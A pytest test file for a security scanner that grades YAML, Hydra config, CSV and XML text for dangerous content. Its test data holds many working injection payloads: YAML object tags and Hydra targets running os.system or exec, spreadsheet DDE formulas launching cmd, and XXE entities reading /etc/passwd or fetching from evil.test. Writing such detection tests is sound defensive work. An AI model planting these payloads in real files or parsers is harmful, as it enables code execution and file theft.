"""YAML tags, hydra targets, formulas in tables, XML: text that some program acts on."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest

from mithridate.core.findings import Severity

TAGS = (
    "!!python/object/apply:os.system ['id']",
    "a: !!python/object/apply:os.system ['id']",
    "- !!python/object/new:subprocess.Popen [['id']]",
    "a:\n  - b: !!python/object/apply:builtins.exec ['1']",
    "a: !!python/name:os.system",
    "a: !!python/module:subprocess",
    "a: !!python/object:subprocess.Popen {}",
    "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']",
    "%TAG !y! tag:yaml.org,2002:python/\n---\na: !y!object/apply:os.system ['id']",
    "%TAG ! tag:yaml.org,2002:\n---\na: !python/object/apply:os.system ['id']",
    "a: !!python%2Fobject/apply:os.system ['id']",
    "a: !!python/object/apply:%6fs.system ['id']",
    "a: &x !!python/object/apply:os.system ['id']",
    "{a: !!python/object/apply:os.system ['id']}",
    '{"a": !!python/object/apply:os.system ["id"]}',
    "[1, !!python/object/apply:os.system ['id']]",
    "a:\n  !!python/object/apply:os.system\n  ['id']",
    "? !!python/object/apply:os.system ['id']\n: 1",
    "--- !!python/object/apply:time.sleep [9]",
    "a: !!python/object/apply:some_package.unknown_function []",
    "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]",
    "a: !ruby/object:Gem::Installer\n  i: x",
    "a: !!ruby/object:Gem::Installer\n  i: x",
)
TARGETS = (
    "_target_: os.system",
    "model:\n  _target_: builtins.exec\n  _args_: ['1']",
    "_target_: 'subprocess.Popen'",
    '"_target_": "builtins.eval"',
    '"\\x5ftarget_": os.system',
    "_target_: >-\n  os.system",
    "? _target_\n: os.system",
    "_target_: torch.load",
    "_target_: hydra.utils.get_method\npath: os.system",
    "_target_: ${oc.env:TARGET}",
    "_target_: pickle.loads",
    "_target_: shutil.rmtree",
    "_target_: importlib.import_module",
    "_target_: posix.system",
    "model:\n  target: os.system\n  params: {}",
    "{_target_: os.system}",
    "_target_: asyncio.create_subprocess_shell",
    "_target_: time.sleep",
    "_target_: torch._utils.os.system",
    "_target_   :   os.system",
    '_target_: "os\\x2esystem"',
    "_target_: &a os.system # x",
    "trainer:\n  class_path: subprocess.Popen\n  init_args: {}",
)
CALM_TEXTS = (
    "model:\n  _target_: torch.optim.AdamW\n  lr: 0.1\nnet:\n  _target_: my.package.Net\n",
    "_target_: functools.partial\n",
    "a: !!python/tuple [1, 2]\nb: !!float 3\nc: !Ref x\nd: !!binary aGk=\n",
    (
        "a: !!python/object/apply:numpy.core.multiarray.scalar [!!python/object/apply:numpy.dtype {args: [f8]}, "
        "!!binary "
        "AAAA]\n"
    ),
    "# a: !!python/object/apply:os.system ['id']\nb: 1\n",
    "Use `!!python/object/apply:os.system` never. It works! Really!\n",
    "path: target\nurl: http://target: 8080\ntarget: http://localhost:8080\n",
    "services:\n  web:\n    build:\n      target: production\n",
    "id,name,value\n1,@bob,-5\n2,-hello,+49 123\n3,=,-0.5e3\n4,a=b,- (x)\n",
    "a\tb\n-1\t=\n+2\t@x(y)\n",
    "x;y\n-1,5;2\n-log10(p);3\n",
    'name: run\nrun: |\n  - (which conda && eval "$(conda shell.bash hook)" >> x) || true\n',
    "Hello, =SUM is a function. +cmd| is none.\n",
    "tree: 1\n",
)
FORMULAS = (
    "a,b\n1,=cmd|'/C calc'!A0\n",
    "a,b\n1,\"=cmd|'/C calc'!A0\"\n",
    "=cmd|'/C calc'!A0\n",
    "a,b\n1,+cmd|'/C notepad'!_xlbgnm.A1\n",
    "a,b\n1,-2+3+cmd|' /C calc'!D2\n",
    "a,b\n1,@SUM(1+1)*cmd|' /C calc'!A0\n",
    'a;b\n1;=DDE("cmd";"/C calc";"x")\n',
    'a,b\n1,"=HYPERLINK(""http://h/?x=""&A1,""click"")"\n',
    'a,b\n1,=WEBSERVICE("http://h")\n',
    'a,b\n1,"=IMPORTXML(CONCAT(""http://h"",A1),""//a"")"\n',
    'a\tb\n1\t=IMAGE("http://h")\n',
    "a,b\n1,=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''\n",
    "a,b\n1,  =cmd|'/C calc'!A0\n",
    'a,b\n1,"=CONCATENATE(""a"",WEBSERVICE(""http://h""))"\n',
    "a,b\n1,=cmd|/C calc!A0\n",
    "a,b\r1,=1+cmd|' /C calc'!A0\r",
    "a,b\n1,=rundll32|'URL.dll,OpenURL calc.exe'!A\n",
)
XML = (
    '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>',
    '<!DOCTYPE p [<!ENTITY % x SYSTEM "http://h/e.dtd">%x;]><PMML/>',
    '<!DOCTYPE p [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]><p>&c;</p>',
    '<!DOCTYPE p [<!ENTITY a "' + "x" * 20000 + '">]><p>' + "&a;" * 3000 + "</p>",
    '<!DOCTYPE PMML SYSTEM "http://evil.test/x.dtd"><PMML/>',
    '<!DOCTYPE PMML SYSTEM "file:///etc/passwd"><PMML/>',
    '<PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></PMML>',
    '<PMML version="4.4"><Extension name="script"><script>x</script></Extension></PMML>',
    '<PMML version="4.4"><Apply function="java.lang.Runtime.exec"/></PMML>',
    '<PMML version="4.4"><Apply function="com.evil.Scorer"><Constant>1</Constant></Apply></PMML>',
    "<PMML version=\"4.4\"><DefineFunction name='f'/><Extension value=\"__import__('os').system('id')\"/></PMML>",
    '<?xml version="1.0"?><java><object class="java.lang.ProcessBuilder"><void method="start"/></object></java>',
    '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:r="java:java.lang.Runtime"/>',
)


@pytest.mark.parametrize("text", TAGS)
def test_tags_that_build_objects_are_grave(text: str, worst: Callable[..., int]) -> None:
    assert worst(text + "\n") >= Severity.HIGH
    assert worst((text + "\n").encode("utf-16")) >= Severity.HIGH


@pytest.mark.parametrize("text", TARGETS)
def test_targets_that_run_things_are_grave(text: str, worst: Callable[..., int]) -> None:
    assert (
        worst("seed: 1\n" + text + "\n") >= Severity.HIGH
        if not text.startswith("{")
        else worst(text + "\n") >= Severity.HIGH
    )


@pytest.mark.parametrize(
    "name", ["os.system", "builtins.exec", "torch.load", "subprocess.run", "operator.attrgetter", "${x}.y"]
)
def test_targets_in_json_are_grave(name: str, worst: Callable[..., int]) -> None:
    assert worst(json.dumps({"a": [{"_target_": name, "x": 1}]})) >= Severity.HIGH
    assert worst(json.dumps({"a": [{"\u005ftarget_": "torch.nn.Linear"}]})) == 0


@pytest.mark.parametrize("text", CALM_TEXTS)
def test_ordinary_texts_are_at_most_low(text: str, worst: Callable[..., int]) -> None:
    assert worst(text) <= Severity.LOW


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_that_start_programs_or_fetch_are_grave(text: str, worst: Callable[..., int]) -> None:
    assert worst(text) >= Severity.HIGH
    assert worst(text.encode("utf-16")) >= Severity.HIGH


def test_a_formula_that_calls_is_medium(worst: Callable[..., int]) -> None:
    assert worst('a,b\n1,"=SUM(A1,A2)"\n') == Severity.MEDIUM


@pytest.mark.parametrize("text", XML)
def test_xml_that_attacks_its_parser_is_grave(text: str, worst: Callable[..., int]) -> None:
    assert worst(text) >= Severity.HIGH
    assert worst(text.encode("utf-16")) >= Severity.HIGH


@pytest.mark.parametrize(
    "text",
    [
        (
            '<?xml version="1.0"?>\n<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Extension name="x" '
            'value="y"/><Apply function="+"/>'
            '<Apply function="x-sum"/></PMML>'
        ),
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
        (
            '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
            '"http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist '
            'version="1.0"/>'
        ),
        '<net name="m" version="11"><layers><layer type="Parameter"/></layers></net>',
        "<!-- <!ENTITY x SYSTEM 'file:///etc/passwd'> --><a>text</a>",
        "<!DOCTYPE html><html><script>1</script></html>",
    ],
)
def test_ordinary_markup_is_at_most_low(text: str, worst: Callable[..., int]) -> None:
    assert worst(text) <= Severity.LOW


def test_source_code_is_low_and_said(worst: Callable[..., int]) -> None:
    assert worst("import os\nfrom x import y\n\ndef f():\n    os.system('id')\n") == Severity.LOW


def test_an_example_in_a_markdown_fence_is_medium(worst: Callable[..., int]) -> None:
    assert worst("# Never do\n```yaml\na: !!python/object/apply:os.system ['id']\n```\n") == Severity.MEDIUM
